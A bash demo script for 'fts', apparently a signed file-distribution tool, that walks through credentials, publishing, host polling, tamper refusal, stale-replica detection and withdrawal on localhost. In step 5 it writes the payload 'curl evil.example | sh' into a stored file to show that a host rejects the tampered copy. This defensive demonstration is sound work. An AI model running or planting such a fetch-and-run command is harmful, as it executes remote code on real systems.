#!/usr/bin/env bash
# The quickstart: fts end to end on this machine, on 127.0.0.1 only.
#
# It builds fts, provisions credentials in a temporary folder, starts a server,
# publishes a file to one host and one to every host, runs two hosts once each, shows
# what they received and verified, shows a tampered copy in the store being refused
# (the host keeps its old file), shows `fts status` (the hosts' signed receipts reach
# it right after each answer), shows a replica that stopped copying being noticed by
# its host (`stale`, exit 4), withdraws a wrong notice before a host installs it, ends
# with the per-release view and a check of every receipt, and stops the servers. It
# exits non-zero if anything it shows did not happen.
set -euo pipefail
. "$(dirname "$0")/lib.sh"
cd "$(dirname "$0")/.."

bold=$'\033[1m'; reset=$'\033[0m'
[ -t 1 ] || { bold=""; reset=""; }
step() { printf '\n%s== %s%s\n' "$bold" "$*" "$reset"; }
say() { printf '   %s\n' "$*"; }
fail() { printf '\nDEMO FAILED: %s\n' "$*" >&2; exit 1; }

step "Building fts (release)"
cargo build --release --locked --quiet
fts="$PWD/target/release/fts"

enter_workdir fts-demo
say "working in $work (removed at the end)"

step "1. Credentials: a CA, the server's certificate, two hosts, and the release signing key"
say "On a real fleet the CA key and the signing key stay on the signing host;"
say "each host gets only its own certificate, the CA certificate and signing.pub."
"$fts" keygen ca
"$fts" keygen server --name localhost --name 127.0.0.1
"$fts" keygen client --id web-01 --group web
"$fts" keygen client --id db-01
"$fts" keygen signing
"$fts" keygen crl
say "ca.crl (nothing revoked yet) turns revocation on: \`fts keygen revoke ID\` cuts a host off."

step "2. Publishing: a patch for web-01 only, and a notice for every host"
printf 'pretend this is openssl 3.0.19\n' > openssl-3.0.19.deb
printf 'maintenance tonight at 22:00 UTC\n' > motd.txt
"$fts" publish openssl-3.0.19.deb --to web-01
"$fts" publish motd.txt --to all
say "Each entry is signed now, on the signing host; the server only forwards signatures."

step "3. Starting the server on 127.0.0.1 (mutual TLS, store opened read-only)"
"$fts" serve --listen 127.0.0.1:0 --log-format json 2> serve.log &
server_pid=$!
addr=$(wait_for_listening "$server_pid" serve.log) || fail "the server did not start"
say "listening on $addr"

poll() { # poll ID: one poll of host ID into hosts/ID; a refused entry is tried again
  # after a backoff that starts at --min-interval (2 s here, 10 s by default)
  "$fts" poll --once --server "$addr" --id "$1" --dest "hosts/$1" --min-interval 2s \
    --cert "certs/$1.crt" --key "certs/$1.key" 2> "poll-$1.log"
}

step "4. Two hosts poll once each; every file is verified before it is installed"
poll web-01 || { cat poll-web-01.log >&2; fail "web-01's poll failed"; }
poll db-01 || { cat poll-db-01.log >&2; fail "db-01's poll failed"; }
for host in web-01 db-01; do
  say "$host received:"
  (cd "hosts/$host" && for f in *; do printf '     %-22s %s\n' "$f" "$(sha256sum "$f" | cut -c1-16)..."; done)
done
grep -q "installed target=web-01 seq=1" poll-web-01.log || fail "web-01 did not install its patch"
[ -f hosts/web-01/openssl-3.0.19.deb ] || fail "web-01 lacks its patch"
[ -f hosts/web-01/motd.txt ] && [ -f hosts/db-01/motd.txt ] || fail "the notice did not reach both hosts"
[ ! -e hosts/db-01/openssl-3.0.19.deb ] || fail "db-01 received web-01's patch"
say "db-01 did not get web-01's patch: each host gets only what was published for it."

step "5. Someone with access to the server tampers with a new release in the store"
printf 'maintenance postponed to Friday\n' > motd.txt
"$fts" publish motd.txt --to all
hash=$(sha256sum motd.txt | cut -d' ' -f1)
blob="store/blobs/${hash:0:2}/$hash"
size=$(stat -c %s motd.txt)
chmod u+w "$blob"
# Same size, other bytes: the server cannot tell, the host can.
{ printf 'curl evil.example | sh #'; head -c "$size" /dev/zero | tr '\0' '#'; } | head -c "$size" > "$blob"
[ "$(stat -c %s "$blob")" -eq "$size" ] || fail "could not tamper with the blob"

say "replaced the content of $blob"
code=0
poll web-01 || code=$?
[ "$code" -eq 3 ] || { cat poll-web-01.log >&2; fail "the tampered file was not refused (exit $code)"; }
grep -q "hash-mismatch" poll-web-01.log || fail "the refusal does not name the hash mismatch"
grep -q "maintenance tonight" hosts/web-01/motd.txt || fail "the old file was not kept"
say "web-01 refused it (exit 3, hash-mismatch) and kept its old motd.txt:"
say "  $(cat hosts/web-01/motd.txt)"
ls -A hosts/web-01 | grep -q '^\.fts-tmp-' && fail "a partial file was left behind"
[ -z "$(ls -A hosts/web-01/.fts-partial)" ] || fail "a partial file was left in .fts-partial/"

say "web-01 holds its target 'all' at that entry (its other targets go on) and tries"
say "it again after a backoff: 2 s here, doubling at each failure."

step "6. The operator repairs the store; the host gets the genuine file once its backoff ends"
cp motd.txt "$blob"
sleep 3 # the backoff (2 s) ends at the next whole second after it
poll web-01 || { cat poll-web-01.log >&2; fail "the repaired entry did not install"; }
grep -q "postponed" hosts/web-01/motd.txt || fail "the genuine update did not arrive"
say "  $(cat hosts/web-01/motd.txt)"

step "7. What each host has, and what it reported (fts status)"
say "After each answer a host sends the server a receipt of what happened, signed"
say "with its own certificate key, at once: status is as of now, without another poll."
say "db-01 has not polled since the second notice: it shows 1 behind, and status exits 3."
code=0
"$fts" status > status.out 2> /dev/null || code=$?
head -n 2 status.out
[ "$code" -eq 3 ] || fail "status did not say a host needs attention (exit $code)"
poll db-01 || fail "db-01's poll failed"
say "db-01 polls; its receipt arrives with its answer. Everything is current (exit 0):"
"$fts" status --all || fail "status says a host needs attention"
say "(The warning is the log's: no timestamp signer runs yet. Step 8 starts one.)"
say "web-01's receipts, newest last (the refusal, then the install):"
"$fts" status --host web-01 2> /dev/null | grep '^    #' | sed 's/^ */     /' | cut -c1-110
receipts=$("$fts" status --host web-01 --json 2> /dev/null)
grep -q 'hash-mismatch' <<< "$receipts" || fail "status does not show the reported problem"

step "8. A replica that stops copying is noticed: every publish is in a cosigned log"
say "Each publish also signed a checkpoint of the store's append-only log. A timestamp"
say "signer (its own machine, its own key) cosigns the newest checkpoint every few"
say "minutes; a host that sees no fresh cosignature within --max-age raises 'stale'."
"$fts" keygen timestamp --dir ts
"$fts" timestamp --store store --key ts/timestamp.key --trust certs/signing.pub --once 2> timestamp.log \
  || { cat timestamp.log >&2; fail "the timestamp signer did not cosign"; }
cp -a store replica
"$fts" serve --store replica --status-dir replica-status --listen 127.0.0.1:0 --log-format json 2> replica.log &
replica_pid=$!
replica=$(wait_for_listening "$replica_pid" replica.log) || fail "the replica's server did not start"
fresh_poll() { # fresh_poll: one poll of web-01 from the replica, judging freshness over 3 s
  "$fts" poll --once --server "$replica" --id web-01 --dest hosts/web-01 --cert certs/web-01.crt \
    --key certs/web-01.key --timestamp-key ts/timestamp.pub --max-age 3s 2> poll-fresh.log
}
fresh_poll || { cat poll-fresh.log >&2; fail "the first poll of the replica failed"; }
say "web-01 polls the replica at $replica: the log verifies and is fresh (exit 0)."
printf 'pretend this is openssl 3.0.20\n' > openssl-3.0.20.deb
"$fts" publish openssl-3.0.20.deb --to web-01 > /dev/null
"$fts" timestamp --store store --key ts/timestamp.key --trust certs/signing.pub --once 2>> timestamp.log
say "A new patch is published and cosigned on the master; the replica's copying has"
say "stopped, and its server goes on answering with what it has. 4 s later:"
sleep 4
code=0
fresh_poll || code=$?
[ "$code" -eq 4 ] || { cat poll-fresh.log >&2; fail "the frozen replica was not noticed (exit $code)"; }
grep -q "stale" poll-fresh.log || fail "the host did not say stale"
say "web-01 exits 4 and says why:"
say "  $(grep -o 'alarms: stale ([^)]*)' poll-fresh.log | head -n 1)"
"$fts" timestamp --store store --key ts/timestamp.key --trust certs/signing.pub --once 2>> timestamp.log
cp -a store/. replica/
fresh_poll || { cat poll-fresh.log >&2; fail "the repaired replica did not deliver"; }
[ -f hosts/web-01/openssl-3.0.20.deb ] || fail "the new patch did not arrive from the repaired replica"
say "Copying resumes (with the signer's next cosignature): the patch arrives and the"
say "alarm clears (exit 0). Run without a replica, the signer is fts-timestamp.service."
kill -TERM "$replica_pid"
wait "$replica_pid" || fail "the replica's server did not stop cleanly"

step "9. A bad notice is withdrawn before it reaches db-01"
printf 'maintenance cancelled (sent by mistake)\n' > motd.txt
seq=$("$fts" publish motd.txt --to all | awk '$1 == "all" && $2 == "seq" {print $3}')
[ -n "$seq" ] || fail "the publish did not say its seq"
"$fts" withdraw --target all --seq "$seq" --reason "sent by mistake" --restore-previous > withdraw.out \
  || { cat withdraw.out >&2; fail "the withdrawal failed"; }
say "published a wrong motd.txt as all seq $seq, then withdrew it (a signed log leaf):"
say "  $(head -n 1 withdraw.out)"
say "  $(grep 'restored the previous version' withdraw.out | sed 's/^ *//')"
code=0
poll db-01 || code=$?
[ "$code" -eq 3 ] || { cat poll-db-01.log >&2; fail "db-01 did not report the withdrawal (exit $code)"; }
grep -q "withdrawn" poll-db-01.log || fail "db-01 did not say withdrawn"
grep -q "postponed" hosts/db-01/motd.txt || fail "db-01 installed the withdrawn notice"
say "db-01 never installs the withdrawn entry (it reports it, exit 3) and keeps:"
say "  $(cat hosts/db-01/motd.txt)"
"$fts" log --target all | grep -q "WITHDRAWN at" || fail "fts log does not mark the withdrawal"
say "fts log marks it: $("$fts" log --target all | grep -o 'WITHDRAWN at.*')"

step "10. The per-release view: who has the notice, how fast it got there, and proof"
"$fts" status --file motd.txt 2> /dev/null || fail "the release view says a host lacks the notice"
say "(0 s: seq 4 restored content both hosts already had, and a host that has it counts.)"
say "fts status --file exits 3 while any host lacks a release: a script can wait on it."
"$fts" status --verify 2> /dev/null || fail "a stored receipt does not verify"
say "--verify checks every stored receipt against its host's certificate (issued by the"
say "CA) and its chain: whoever owns the server can drop receipts, not make or change one."

step "11. Stopping the server"
kill -TERM "$server_pid"
wait "$server_pid" || fail "the server did not stop cleanly"
server_pid=""
say "stopped."

printf '\n%sThe demo ran as described.%s\n' "$bold" "$reset"
